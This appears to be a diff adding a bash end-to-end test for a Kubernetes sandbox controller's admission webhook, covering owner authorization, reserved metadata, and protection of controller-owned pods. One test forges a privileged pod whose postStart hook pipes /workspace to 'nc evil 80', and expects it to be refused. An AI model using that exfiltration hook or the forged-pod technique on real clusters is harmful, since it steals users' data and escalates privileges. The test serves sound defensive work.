@@ -1,0 +1,274 @@
+#!/usr/bin/env bash
+# End-to-end: the admission half (contract sections 2a, 4 and 6) on a real
+# control plane, as real identities: alice and bob (Sandboxes, and `use` on
+# their own workspace only), mallory (pods only) and the agent ServiceAccount
+# (every owner). The controller serves the webhook on 127.0.0.1 and the API
+# server calls it through the product's own webhook configurations.
+. "$(dirname "$0")/lib.sh"
+. "$(dirname "$0")/lib_admission.sh"
+
+IMG=registry.local/agent:1.0
+
+setup() {
+  cluster_up
+  grant_controller_rbac
+  new_namespace team-a
+  new_namespace team-b
+  webhook_certs
+  WEBHOOK_PORT=$(free_port)
+  controller_start main --webhook-bind-address "127.0.0.1:$WEBHOOK_PORT" --webhook-cert-dir "$WEBHOOK_CERT_DIR"
+  MAIN_CTL=$CTL_PID
+  install_admission "$WEBHOOK_PORT" sandbox-controller || { say "admission not installed"; exit 1; }
+  ALICE=$(user_kubeconfig alice); BOB=$(user_kubeconfig bob); MALLORY=$(user_kubeconfig mallory)
+  AGENT=$(sa_kubeconfig team-a agent)
+  kubectl apply -f - >/dev/null <<YAML
+apiVersion: rbac.authorization.k8s.io/v1
+kind: Role
+metadata: {name: sandbox-editor, namespace: team-a}
+rules:
+  - {apiGroups: [sandbox.dev], resources: [sandboxes], verbs: [get, list, watch, create, update, patch, delete]}
+---
+apiVersion: rbac.authorization.k8s.io/v1
+kind: RoleBinding
+metadata: {name: sandbox-editors, namespace: team-a}
+roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: sandbox-editor}
+subjects:
+  - {kind: User, name: alice}
+  - {kind: User, name: bob}
+  - {kind: ServiceAccount, name: agent, namespace: team-a}
+---
+apiVersion: rbac.authorization.k8s.io/v1
+kind: Role
+metadata: {name: workspace-alice, namespace: team-a}
+rules:
+  - {apiGroups: [sandbox.dev], resources: [workspaces], resourceNames: [alice], verbs: [use]}
+---
+apiVersion: rbac.authorization.k8s.io/v1
+kind: RoleBinding
+metadata: {name: workspace-alice, namespace: team-a}
+roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: workspace-alice}
+subjects: [{kind: User, name: alice}]
+---
+apiVersion: rbac.authorization.k8s.io/v1
+kind: Role
+metadata: {name: workspace-bob, namespace: team-a}
+rules:
+  - {apiGroups: [sandbox.dev], resources: [workspaces], resourceNames: [bob], verbs: [use]}
+---
+apiVersion: rbac.authorization.k8s.io/v1
+kind: RoleBinding
+metadata: {name: workspace-bob, namespace: team-a}
+roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: workspace-bob}
+subjects: [{kind: User, name: bob}]
+---
+apiVersion: rbac.authorization.k8s.io/v1
+kind: Role
+metadata: {name: workspace-any, namespace: team-a}
+rules:
+  - {apiGroups: [sandbox.dev], resources: [workspaces], verbs: [use]}
+---
+apiVersion: rbac.authorization.k8s.io/v1
+kind: RoleBinding
+metadata: {name: workspace-agent, namespace: team-a}
+roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: workspace-any}
+subjects: [{kind: ServiceAccount, name: agent, namespace: team-a}]
+---
+apiVersion: rbac.authorization.k8s.io/v1
+kind: Role
+metadata: {name: pod-editor, namespace: team-a}
+rules:
+  - {apiGroups: [""], resources: [pods], verbs: [get, list, create, delete, update, patch]}
+---
+apiVersion: rbac.authorization.k8s.io/v1
+kind: RoleBinding
+metadata: {name: pod-editor-mallory, namespace: team-a}
+roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: pod-editor}
+subjects: [{kind: User, name: mallory}]
+YAML
+}
+
+as() { local kc=$1; shift; KUBECONFIG=$kc kubectl "$@"; }
+pod_of() { jp "$1" sandbox "$2" '{.status.podName}'; }
+bound_reason() { jp "$1" sandbox "$2" '{.status.conditions[?(@.type=="Bound")].reason}'; }
+exists() { kubectl get -n "$1" sandbox "$2" >/dev/null 2>&1; }
+
+# sandbox_as KUBECONFIG NS NAME IMAGE KEY OWNER: creates a Sandbox as someone.
+sandbox_as() {
+  local kc=$1; shift
+  KUBECONFIG=$kc sandbox "$@"
+}
+
+# http_create KUBECONFIG-USER NS JSON: POSTs a Sandbox as a client-cert user,
+# prints "<http code> <body>".
+http_create() {
+  local u=$1 ns=$2 body=$3 server
+  server=$(kubectl config view --minify -o jsonpath='{.clusters[0].cluster.server}')
+  curl -s -o "$E2E_DIR/http.out" -w '%{http_code}' --cacert "$E2E_DIR/pki/ca.crt" \
+    --cert "$E2E_DIR/pki/$u.crt" --key "$E2E_DIR/pki/$u.key" -H 'Content-Type: application/json' \
+    -X POST "$server/apis/sandbox.dev/v1alpha1/namespaces/$ns/sandboxes" -d "$body"
+  echo " $(cat "$E2E_DIR/http.out")"
+}
+
+mounts_of() { # subPaths of the pod's mounts, sorted
+  kubectl get pod -n "$1" "$2" -o jsonpath='{range .spec.containers[0].volumeMounts[*]}{.subPath}{"\n"}{end}' | sort | tr '\n' ' '
+}
+
+test_owner_is_authorized_by_identity() {
+  local out
+  out=$(sandbox_as "$BOB" team-a bob-for-alice $IMG task-1 alice) && fail "bob's Sandbox for alice was accepted"
+  expect_match "$out" 'alice' "refusal names the owner"
+  expect_match "$out" '"use" on workspaces.sandbox.dev' "refusal names the missing permission"
+  exists team-a bob-for-alice && fail "bob's refused Sandbox was stored"
+  local code
+  code=$(http_create bob team-a '{"apiVersion":"sandbox.dev/v1alpha1","kind":"Sandbox","metadata":{"name":"bob-http"},"spec":{"image":"x","workspaceOwner":"alice"}}')
+  expect_eq "${code%% *}" 403 "HTTP status of bob's create for alice"
+  sandbox_as "$ALICE" team-a alice-1 $IMG task-1 alice >/dev/null || fail "alice for alice refused"
+  sandbox_as "$AGENT" team-a agent-alice $IMG task-2 alice >/dev/null || fail "agent for alice refused"
+  sandbox_as "$AGENT" team-a agent-bob $IMG task-2 bob >/dev/null || fail "agent for bob refused"
+  for s in alice-1 agent-alice agent-bob; do wait_for 30 bound team-a $s || fail "$s not bound"; done
+  expect_eq "$(kubectl get sbx -n team-a alice-1 -o jsonpath='{.metadata.annotations.sandbox\.dev/requested-by}')" alice \
+    "requester recorded"
+  expect_eq "$(kubectl get sbx -n team-a agent-bob -o jsonpath='{.metadata.annotations.sandbox\.dev/requested-by}')" \
+    system:serviceaccount:team-a:agent "agent recorded"
+  expect_eq "$(mounts_of team-a "$(pod_of team-a agent-alice)")" "alice/claude alice/codex alice/gemini alice/workspace " "agent-alice mounts"
+  expect_eq "$(mounts_of team-a "$(pod_of team-a agent-bob)")" "bob/claude bob/codex bob/gemini bob/workspace " "agent-bob mounts"
+  # bob may use his own workspace
+  sandbox_as "$BOB" team-a bob-1 $IMG task-1 bob >/dev/null || fail "bob for bob refused"
+  wait_for 30 bound team-a bob-1 || fail "bob-1 not bound"
+}
+
+test_key_conflict_refused_with_422() {
+  sandbox_as "$ALICE" team-a conflict-a $IMG task-43 alice >/dev/null || fail "first create"
+  local r
+  r=$(http_create alice team-a '{"apiVersion":"sandbox.dev/v1alpha1","kind":"Sandbox","metadata":{"name":"conflict-b"},"spec":{"image":"other:2","idempotencyKey":"task-43","workspaceOwner":"alice"}}')
+  expect_eq "${r%% *}" 422 "HTTP status of a key reused with another spec"
+  expect_match "$r" 'held by Sandbox team-a/conflict-a' "422 names the holder"
+  exists team-a conflict-b && fail "conflicting Sandbox stored"
+  # the same spec shares the key
+  sandbox_as "$ALICE" team-a conflict-c $IMG task-43 alice >/dev/null || fail "same intent refused"
+  wait_for 30 bound team-a conflict-c || fail "conflict-c not bound"
+  expect_eq "$(pod_of team-a conflict-c)" "$(pod_of team-a conflict-a)" "same intent, same pod"
+}
+
+test_reserved_metadata_on_sandboxes() {
+  local out
+  out=$(as "$ALICE" apply -f - 2>&1 <<YAML
+apiVersion: sandbox.dev/v1alpha1
+kind: Sandbox
+metadata: {name: forged-authz, namespace: team-a, annotations: {sandbox.dev/owner-authorization: v1.1.n.0000}}
+spec: {image: $IMG, workspaceOwner: alice}
+YAML
+) && fail "reserved annotation accepted"
+  expect_match "$out" "reserved" "reserved annotation message"
+  out=$(as "$ALICE" apply -f - 2>&1 <<YAML
+apiVersion: sandbox.dev/v1alpha1
+kind: Sandbox
+metadata: {name: forged-label, namespace: team-a, labels: {sandbox.dev/scope-digest: 0123}}
+spec: {image: $IMG}
+YAML
+) && fail "reserved label accepted"
+  sandbox_as "$ALICE" team-a meta-1 $IMG - alice >/dev/null || fail "create meta-1"
+  as "$ALICE" annotate sbx -n team-a meta-1 sandbox.dev/requested-by=bob --overwrite >/dev/null 2>&1 &&
+    fail "reserved annotation changed"
+  as "$ALICE" annotate sbx -n team-a meta-1 sandbox.dev/owner-authorization- >/dev/null 2>&1 &&
+    fail "reserved annotation removed"
+  as "$ALICE" annotate sbx -n team-a meta-1 note=hello >/dev/null 2>&1 || fail "ordinary annotation refused"
+  out=$(as "$ALICE" patch sbx -n team-a meta-1 --type merge -p '{"spec":{"image":"other"}}' 2>&1) &&
+    fail "spec change accepted"
+  expect_match "$out" "immutable" "spec change message"
+}
+
+test_pods_reserved_to_the_controller() {
+  sandbox_as "$ALICE" team-a victim $IMG task-v alice >/dev/null || fail "create victim"
+  wait_for 30 bound team-a victim || fail "victim not bound"
+  local pod digest out
+  pod=$(pod_of team-a victim)
+  # squatting the name of a Sandbox not created yet
+  digest=$("$BUILD_DIR/sbx-digest" team-a x '{"image":"'$IMG'","idempotencyKey":"task-later","workspaceOwner":"alice"}' | cut -d' ' -f1)
+  expect_match "$digest" '^[0-9a-f]{32}$' "digest tool"
+  out=$(as "$MALLORY" run "sbx-$digest" -n team-a --image=busybox --restart=Never 2>&1) && fail "mallory created sbx-$digest"
+  expect_match "$out" "reserved for sandbox-controller" "squat refusal"
+  out=$(as "$MALLORY" run lookalike -n team-a --image=busybox --restart=Never \
+    --labels=sandbox.dev/scope-digest=0123 2>&1) && fail "mallory created a pod with a reserved label"
+  # mallory may patch her own pods but not the spec of a sandbox pod
+  as "$MALLORY" patch pod -n team-a "$pod" --type merge -p '{"spec":{"containers":[{"name":"sandbox","image":"evil"}]}}' \
+    >/dev/null 2>&1 && fail "mallory changed the image of $pod"
+  as "$MALLORY" annotate pod -n team-a "$pod" sandbox.dev/seal=00 --overwrite >/dev/null 2>&1 &&
+    fail "mallory changed the seal of $pod"
+  # delete alice's pod and re-create it with its labels, annotations and seal, privileged
+  kubectl get pod -n team-a "$pod" -o json >"$E2E_DIR/victim.json"
+  as "$MALLORY" delete pod -n team-a "$pod" --wait=false >/dev/null || fail "mallory may delete pods"
+  python3 - "$E2E_DIR/victim.json" >"$E2E_DIR/forged.json" <<'PY'
+import json, sys
+p = json.load(open(sys.argv[1]))
+m = p['metadata']
+p['metadata'] = {k: m[k] for k in ('name', 'namespace', 'labels', 'annotations') if k in m}
+s = p['spec']
+s.pop('nodeName', None)
+s['hostNetwork'] = True
+s['automountServiceAccountToken'] = True
+c = s['containers'][0]
+c['securityContext'] = {'privileged': True}
+c['lifecycle'] = {'postStart': {'exec': {'command': ['sh', '-c', 'tar c /workspace | nc evil 80']}}}
+p.pop('status', None)
+print(json.dumps(p))
+PY
+  wait_for 30 pod_gone team-a "$pod"
+  out=$(as "$MALLORY" create -f "$E2E_DIR/forged.json" 2>&1) && fail "mallory re-created $pod privileged"
+  expect_match "$out" "reserved for sandbox-controller" "forged pod refusal"
+  # garbage collection still deletes the pods of deleted Sandboxes
+  sandbox_as "$ALICE" team-a gc-me $IMG task-gc alice >/dev/null
+  wait_for 30 bound team-a gc-me || fail "gc-me not bound"
+  pod=$(pod_of team-a gc-me)
+  as "$ALICE" delete sbx -n team-a gc-me >/dev/null
+  wait_for 90 pod_gone team-a "$pod" || fail "pod $pod of a deleted Sandbox not collected"
+}
+pod_gone() { ! kubectl get pod -n "$1" "$2" >/dev/null 2>&1; }
+
+test_schema_limits() {
+  local out big
+  big=$(head -c 1048576 /dev/zero | tr '\0' 'a')
+  printf '{"apiVersion":"sandbox.dev/v1alpha1","kind":"Sandbox","metadata":{"name":"big-command","namespace":"team-a"},"spec":{"image":"x","command":["%s"]}}' "$big" >"$E2E_DIR/big.json"
+  out=$(as "$ALICE" create -f "$E2E_DIR/big.json" 2>&1) && fail "1 MiB command accepted"
+  expect_match "$out" "spec.command" "1 MiB command refusal names the field"
+  python3 -c 'import json; print(json.dumps({"apiVersion":"sandbox.dev/v1alpha1","kind":"Sandbox","metadata":{"name":"many-env","namespace":"team-a"},"spec":{"image":"x","env":[{"name":"V%d"%i,"value":"v"} for i in range(10000)]}}))' >"$E2E_DIR/env.json"
+  out=$(as "$ALICE" create -f "$E2E_DIR/env.json" 2>&1) && fail "10,000 env entries accepted"
+  expect_match "$out" "spec.env" "10,000 env refusal names the field"
+  exists team-a big-command && fail "big-command stored"
+  exists team-a many-env && fail "many-env stored"
+}
+
+# Last: deletes the admission objects.
+test_zz_webhook_absent_never_mounts() {
+  kubectl get sbx -n team-a alice-1 -o json >"$E2E_DIR/alice-1.json"
+  uninstall_admission
+  sleep 1
+  # bob's Sandbox for alice is stored but never gets a pod
+  sandbox_as "$BOB" team-a bob-absent $IMG task-9 alice >/dev/null || fail "create without admission"
+  wait_for 30 has_reason team-a bob-absent OwnerNotAuthorized || fail "bob-absent: $(bound_reason team-a bob-absent)"
+  expect_eq "$(pod_of team-a bob-absent)" "" "no pod for bob-absent"
+  # alice's record copied onto bob's Sandboxes: another spec, and alice's exact spec under another name
+  python3 - "$E2E_DIR/alice-1.json" "$IMG" >"$E2E_DIR/copies.yaml" <<'PY'
+import json, sys
+a = json.load(open(sys.argv[1]))
+ann = {k: v for k, v in a['metadata']['annotations'].items() if k.startswith('sandbox.dev/')}
+docs = []
+for name, spec in (('bob-copy-other', dict(a['spec'], image='evil:1')), ('bob-copy-same', a['spec'])):
+    docs.append({'apiVersion': 'sandbox.dev/v1alpha1', 'kind': 'Sandbox',
+                 'metadata': {'name': name, 'namespace': 'team-a', 'annotations': ann}, 'spec': spec})
+print('\n---\n'.join(json.dumps(d) for d in docs))
+PY
+  as "$BOB" apply -f "$E2E_DIR/copies.yaml" >/dev/null || fail "copies not stored"
+  wait_for 30 has_reason team-a bob-copy-other OwnerNotAuthorized || fail "bob-copy-other: $(bound_reason team-a bob-copy-other)"
+  wait_for 30 has_reason team-a bob-copy-same OwnerNotAuthorized || fail "bob-copy-same: $(bound_reason team-a bob-copy-same)"
+  expect_eq "$(pod_of team-a bob-copy-other)" "" "no pod for a copied record on another spec"
+  expect_eq "$(pod_of team-a bob-copy-same)" "" "no pod for a copied record under another name"
+  kubectl get events -n team-a --field-selector involvedObject.name=bob-absent,reason=OwnerNotAuthorized \
+    -o name | grep -q . || fail "no OwnerNotAuthorized event"
+  # without owners nothing needs authorizing
+  sandbox_as "$BOB" team-a bob-noowner $IMG task-9 - >/dev/null
+  wait_for 30 bound team-a bob-noowner || fail "Sandbox without owner not bound without admission"
+}
+
+setup
+e2e_main
